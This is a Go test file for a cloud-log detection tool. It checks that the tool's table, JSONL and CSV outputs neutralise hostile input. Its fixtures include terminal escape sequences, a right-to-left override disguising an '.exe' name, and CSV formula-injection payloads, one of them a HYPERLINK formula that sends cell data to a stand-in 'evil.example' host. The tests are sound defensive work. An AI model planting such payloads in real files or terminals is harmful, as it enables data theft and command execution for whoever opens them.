package signal

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/trailhound/trailhound/internal/event"
	"github.com/trailhound/trailhound/internal/goldenfile"
)

// golden compares got with testdata/name.golden, or rewrites the file with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	goldenfile.Check(t, filepath.Join("testdata", name+".golden"), got)
}

// fixtures returns signals with the inputs that are hard to print: long ARNs, wide
// characters, control characters and escape sequences, empty fields, several events.
func fixtures() []Signal {
	var out []Signal

	// A failed call by an SSO role with a long path and an e-mail session name.
	sso := header("7f9c3b1e-0001-4a2b-9c8d-000000000001", 3)
	sso.EventSource, sso.EventName, sso.ErrorCode = "cloudtrail.amazonaws.com", "StopLogging", "AccessDenied"
	sso.Actor = "arn:aws:iam::111122223333:role/aws-reserved/sso.amazonaws.com/eu-west-1/AWSReservedSSO_AdministratorAccess_0123456789abcdef#alice.longname@example.com"
	sso.AccessKeyID, sso.Region = "ASIAEXAMPLEKEY000001", "eu-west-1"
	out = append(out, FromEvent(RuleInfo{
		ID: "aws-cloudtrail-stop-logging", Title: "CloudTrail logging stopped", Level: LevelCritical,
		Tags: []string{"attack.defense-evasion", "attack.t1562.008", "attack.impact", "detection.emerging-threats"},
	}, sso))

	// Several events with duplicates, two APIs, three regions and five IPs.
	out = append(out, accumulate(testRule, 0, append(variedHeaders(12), variedHeaders(3)...)))

	// Escape sequences in the user name, the user agent and even the rule title.
	evil := header("evil-0001", 20)
	evil.Actor = "arn:aws:iam::111122223333:user/\x1b[31mevil\x1b[0m\x1b[2J"
	evil.UserAgent = "\x1b]0;pwned\x07curl/8.0\n\u202egnp.exe \u009b31m"
	out = append(out, FromEvent(RuleInfo{
		ID: "aws-console-login-no-mfa", Title: "Console login without MFA\x1b[8m hidden", Level: LevelMedium,
		Tags: []string{"attack.initial_access", "attack.t1078.004", "cve.2099-0001"},
	}, evil))

	// Wide characters in the title and the user name.
	wide := header("wide-0001", 30)
	wide.Actor = "arn:aws:iam::111122223333:user/ユーザー太郎"
	wide.EventSource, wide.EventName = "signin.amazonaws.com", "ConsoleLogin"
	wide.SourceIP = "2001:db8:85a3::8a2e:370:7334"
	out = append(out, FromEvent(RuleInfo{
		ID: "aws-unusual-login", Title: "不審なコンソールログイン 🚨 検出されました（日本語のルール）", Level: LevelLow,
		Tags: []string{"attack.t1078"},
	}, wide))

	// Nothing but an event ID: no time, actor, account, region or IP; a rule without title.
	out = append(out, FromEvent(RuleInfo{ID: "aws-bare"}, event.Header{EventID: "bare-0001", EventName: "GetCallerIdentity"}))

	// A cross-account actor and a very long title.
	cross := header("cross-0001", 45)
	cross.Actor = "arn:aws:iam::444455556666:role/service-role/VeryLongDeploymentPipelineRoleNameForProduction#codepipeline-session-1700000000"
	cross.EventSource, cross.EventName = "s3.amazonaws.com", "PutBucketPolicy"
	out = append(out, FromEvent(RuleInfo{
		ID: "aws-s3-bucket-policy-cross-account", Level: LevelHigh,
		Title: "S3 bucket policy changed by a principal from another account, granting public or cross-account access",
		Tags:  []string{"attack.exfiltration", "attack.t1537"},
	}, cross))

	// Many events, capped at five ids.
	var many []event.Header
	for i := range 150 {
		h := header(fmt.Sprintf("spray-%04d", i), i)
		h.EventSource, h.EventName, h.ErrorCode = "signin.amazonaws.com", "ConsoleLogin", "Failed authentication"
		h.SourceIP = fmt.Sprintf("192.0.2.%d", i)
		h.Region = []string{"us-east-1", "us-west-2", "eu-central-1"}[i%3]
		h.Actor = "arn:aws:iam::111122223333:user/victim"
		many = append(many, h)
	}
	out = append(out, accumulate(RuleInfo{
		ID: "aws-console-password-spray", Title: "Console password spraying", Level: LevelMedium,
		Tags: []string{"attack.credential_access", "attack.t1110.003"},
	}, 5, many))
	return out
}

var sgr = regexp.MustCompile("\x1b\\[[0-9;]*m")

func TestWriteTable(t *testing.T) {
	tests := []struct {
		name    string
		signals []Signal
		opts    TableOptions
	}{
		{"table_w80", fixtures(), TableOptions{Width: 80}},
		{"table_w80_color", fixtures(), TableOptions{Width: 80, Color: true}},
		{"table_w120", fixtures(), TableOptions{Width: 120}},
		{"table_w120_color", fixtures(), TableOptions{Width: 120, Color: true}},
		{"table_w80_compact", fixtures(), TableOptions{Compact: true}},
		{"table_w50", fixtures(), TableOptions{Width: 50}},
		{"table_w10", fixtures()[:2], TableOptions{Width: 10}},
		{"table_empty", nil, TableOptions{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := fmt.Sprint(tt.signals)
			var buf bytes.Buffer
			if err := WriteTable(&buf, tt.signals, tt.opts); err != nil {
				t.Fatal(err)
			}
			golden(t, tt.name, buf.Bytes())
			if fmt.Sprint(tt.signals) != before {
				t.Error("WriteTable modified its input")
			}
			width := max(tt.opts.Width, MinTableWidth)
			if tt.opts.Width == 0 {
				width = DefaultTableWidth
			}
			checkTable(t, buf.String(), width, tt.opts.Color)
		})
	}
}

// checkTable checks what every table must satisfy, whatever the golden file says.
func checkTable(t *testing.T, out string, width int, color bool) {
	t.Helper()
	if !color && strings.Contains(out, "\x1b") {
		t.Error("escape sequence in a table without colour")
	}
	if color && !strings.Contains(out, "\x1b[") {
		t.Error("no colour in a coloured table")
	}
	for i, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		plain := sgr.ReplaceAllString(line, "")
		if !utf8.ValidString(plain) {
			t.Errorf("line %d is not valid UTF-8: %q", i+1, line)
		}
		for _, r := range plain {
			if unsafeRune(r) {
				t.Errorf("line %d has unsafe rune %U: %q", i+1, r, line)
			}
		}
		if w := widthOf(plain); w > width {
			t.Errorf("line %d is %d wide, more than %d: %q", i+1, w, width, plain)
		}
		if strings.HasSuffix(plain, " ") {
			t.Errorf("line %d has trailing spaces: %q", i+1, plain)
		}
	}
}

func TestWriteTableOrder(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteTable(&buf, fixtures(), TableOptions{Width: 120, Compact: true}); err != nil {
		t.Fatal(err)
	}
	var levels []string
	for _, line := range strings.Split(strings.TrimSpace(buf.String()), "\n")[1:] {
		levels = append(levels, strings.Fields(line)[0])
	}
	want := []string{"CRIT", "HIGH", "HIGH", "MED", "MED", "LOW", "INFO"}
	if diff := cmp.Diff(want, levels); diff != "" {
		t.Errorf("row levels (-want +got):\n%s", diff)
	}
}

var jsonKeys = []string{
	"id", "rule_id", "title", "level", "techniques", "tactics", "first_seen", "last_seen", "account_id",
	"regions", "actor", "access_key_id", "source_ips", "event_ids", "event_count", "summary", "status", "revision",
}

func TestWriteJSONL(t *testing.T) {
	signals := fixtures()
	Sort(signals)
	var buf bytes.Buffer
	if err := WriteJSONL(&buf, signals); err != nil {
		t.Fatal(err)
	}
	golden(t, "signals.jsonl", buf.Bytes())

	sc := bufio.NewScanner(&buf)
	sc.Buffer(nil, 1<<20)
	n := 0
	for sc.Scan() {
		line := sc.Bytes()
		for _, r := range string(line) {
			if unsafeRune(r) {
				t.Errorf("line %d has raw unsafe rune %U", n+1, r)
			}
		}
		if keys := topLevelKeys(t, line); !cmp.Equal(jsonKeys, keys) {
			t.Errorf("line %d keys (-want +got):\n%s", n+1, cmp.Diff(jsonKeys, keys))
		}
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			t.Fatalf("line %d: %v", n+1, err)
		}
		for _, k := range []string{"techniques", "tactics", "regions", "source_ips", "event_ids"} {
			if _, ok := m[k].([]any); !ok {
				t.Errorf("line %d: %s is %v, want a list", n+1, k, m[k])
			}
		}
		var back Signal
		if err := json.Unmarshal(line, &back); err != nil {
			t.Fatalf("line %d: decoding a signal: %v", n+1, err)
		}
		want := signals[n]
		want.DroppedEventIDs = 0
		want.Status, want.Revision = want.Lifecycle() // written as closed, revision 1
		if diff := cmp.Diff(want, back, cmpopts.EquateEmpty()); diff != "" {
			t.Errorf("line %d does not round-trip (-want +got):\n%s", n+1, diff)
		}
		n++
	}
	if n != len(signals) {
		t.Errorf("%d lines, want %d", n, len(signals))
	}
}

func topLevelKeys(t *testing.T, line []byte) []string {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(line))
	var keys []string
	if _, err := dec.Token(); err != nil {
		t.Fatal(err)
	}
	for dec.More() {
		tok, err := dec.Token()
		if err != nil {
			t.Fatal(err)
		}
		keys = append(keys, tok.(string))
		var skip json.RawMessage
		if err := dec.Decode(&skip); err != nil {
			t.Fatal(err)
		}
	}
	return keys
}

func TestMarshalJSONZeroSignal(t *testing.T) {
	b, err := json.Marshal(Signal{})
	if err != nil {
		t.Fatal(err)
	}
	want := `{"id":"","rule_id":"","title":"","level":"informational","techniques":[],"tactics":[],` +
		`"first_seen":null,"last_seen":null,"account_id":"","regions":[],"actor":"","access_key_id":"",` +
		`"source_ips":[],"event_ids":[],"event_count":0,"summary":"","status":"closed","revision":1}`
	if string(b) != want {
		t.Errorf("json.Marshal(Signal{})\n got: %s\nwant: %s", b, want)
	}
	loc := time.FixedZone("X", 3600)
	b, err = json.Marshal(Signal{FirstSeen: time.Date(2024, 1, 2, 4, 0, 0, 0, loc)})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(b, []byte(`"first_seen":"2024-01-02T03:00:00Z"`)) {
		t.Errorf("first_seen not in UTC: %s", b)
	}
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, fmt.Errorf("disk full") }

func TestWriteErrors(t *testing.T) {
	if err := WriteJSONL(failingWriter{}, fixtures()[:1]); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Errorf("WriteJSONL error = %v, want the writer's", err)
	}
	if err := WriteTable(failingWriter{}, fixtures()[:1], TableOptions{}); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Errorf("WriteTable error = %v, want the writer's", err)
	}
	if err := WriteJSONL(&bytes.Buffer{}, []Signal{{Level: Level(7)}}); err == nil {
		t.Error("WriteJSONL of an invalid level succeeded")
	}
}

func TestSort(t *testing.T) {
	at := func(m int) time.Time { return t0.Add(time.Duration(m) * time.Minute) }
	in := []Signal{
		{ID: "b", RuleID: "r2", Level: LevelLow, FirstSeen: at(1)},
		{ID: "a", RuleID: "r2", Level: LevelLow, FirstSeen: at(1)},
		{ID: "z", RuleID: "r1", Level: LevelLow, FirstSeen: at(1)},
		{ID: "y", RuleID: "r9", Level: LevelLow, FirstSeen: at(0)},
		{ID: "x", RuleID: "r9", Level: LevelCritical, FirstSeen: at(9)},
		{ID: "w", RuleID: "r9", Level: LevelInformational},
	}
	Sort(in)
	var got []string
	for _, s := range in {
		got = append(got, s.ID)
	}
	if diff := cmp.Diff([]string{"x", "y", "z", "a", "b", "w"}, got); diff != "" {
		t.Errorf("Sort order (-want +got):\n%s", diff)
	}
}

// TestUniquePrefixLen: the prefix is long enough to tell every two ids apart, never
// shorter than asked, and equal ids do not lengthen it.
func TestUniquePrefixLen(t *testing.T) {
	sig := func(ids ...string) []Signal {
		var out []Signal
		for _, id := range ids {
			out = append(out, Signal{ID: id})
		}
		return out
	}
	tests := []struct {
		ids  []string
		min  int
		want int
	}{
		{nil, 12, 12},
		{[]string{"aaaa1111"}, 4, 4},
		{[]string{"aaaa1111", "aaab2222"}, 2, 4},
		{[]string{"aaaa1111", "bbbb", "aaaa1112", "aaaa1111"}, 2, 8},
		{[]string{"abc", "abcd"}, 1, 4},
	}
	for _, tt := range tests {
		if got := UniquePrefixLen(sig(tt.ids...), tt.min); got != tt.want {
			t.Errorf("UniquePrefixLen(%v, %d) = %d, want %d", tt.ids, tt.min, got, tt.want)
		}
	}
}

// TestWriteTableIDs: every row shows a prefix of its signal's id that no other signal
// of the table has, at every width.
func TestWriteTableIDs(t *testing.T) {
	signals := fixtures()
	for i := range signals { // ids that share a long prefix
		signals[i].ID = fmt.Sprintf("0123456789abcd%06d", i)
	}
	for _, width := range []int{10, 50, 80, 200} {
		var buf bytes.Buffer
		if err := WriteTable(&buf, signals, TableOptions{Width: width, Compact: true}); err != nil {
			t.Fatal(err)
		}
		rows := strings.Split(strings.TrimSpace(buf.String()), "\n")[1:]
		if len(rows) != len(signals) {
			t.Fatalf("width %d: %d rows for %d signals", width, len(rows), len(signals))
		}
		for _, row := range rows {
			id := strings.Fields(row)[1]
			var matches int
			for _, s := range signals {
				if strings.HasPrefix(s.ID, id) {
					matches++
				}
			}
			if matches != 1 || len(id) < MinIDPrefix {
				t.Errorf("width %d: row id %q names %d signals", width, id, matches)
			}
		}
	}
}

// TestWriteCSV: one row per signal under the header, every cell as the JSON form says it
// (lists joined by spaces), no control character and no cell a spreadsheet reads as a
// formula; the golden file pins the layout.
func TestWriteCSV(t *testing.T) {
	signals := fixtures()
	signals[0].Actor = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"
	signals[1].Summary = "@SUM(1+1)*cmd|' /C calc'!A0"
	var buf bytes.Buffer
	if err := WriteCSV(&buf, signals); err != nil {
		t.Fatal(err)
	}
	golden(t, "signals.csv", buf.Bytes())
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(signals)+1 || !slices.Equal(rows[0], CSVHeader) {
		t.Fatalf("%d rows, header %v", len(rows), rows[0])
	}
	for i, row := range rows[1:] {
		s := signals[i]
		if row[0] != s.ID || row[1] != s.Level.String() || row[13] != strconv.Itoa(s.EventCount) || row[14] != strings.Join(s.EventIDs, " ") {
			t.Errorf("row %d = %v, want signal %s", i, row, s.ID)
		}
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("row %d, %s: %q would run as a formula", i, CSVHeader[j], cell)
			}
			for _, r := range cell {
				if unsafeRune(r) {
					t.Errorf("row %d, %s: %q holds %U", i, CSVHeader[j], cell, r)
				}
			}
		}
	}
	if !strings.Contains(rows[1][10], `'=HYPERLINK(`) {
		t.Errorf("the formula actor is not shown as text: %q", rows[1][10])
	}
}

func TestCheckRevisions(t *testing.T) {
	s := func(id string, rev int, st Status, n int) Signal {
		return Signal{ID: id, Revision: rev, Status: st, EventCount: n}
	}
	good := []Signal{s("a", 1, StatusOpen, 1), s("b", 1, StatusClosed, 1), s("a", 2, StatusUpdated, 2), s("a", 2, StatusUpdated, 2), s("a", 4, StatusClosed, 3)}
	last, err := CheckRevisions(good)
	if err != nil || last["a"].Revision != 4 || len(last) != 2 {
		t.Errorf("CheckRevisions(good) = %v, %v", last, err)
	}
	for name, bad := range map[string][]Signal{
		"down":          {s("a", 2, StatusUpdated, 1), s("a", 1, StatusOpen, 1)},
		"after closed":  {s("a", 1, StatusClosed, 1), s("a", 2, StatusUpdated, 2)},
		"other content": {s("a", 1, StatusOpen, 1), s("a", 1, StatusOpen, 2)},
	} {
		if _, err := CheckRevisions(bad); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
}
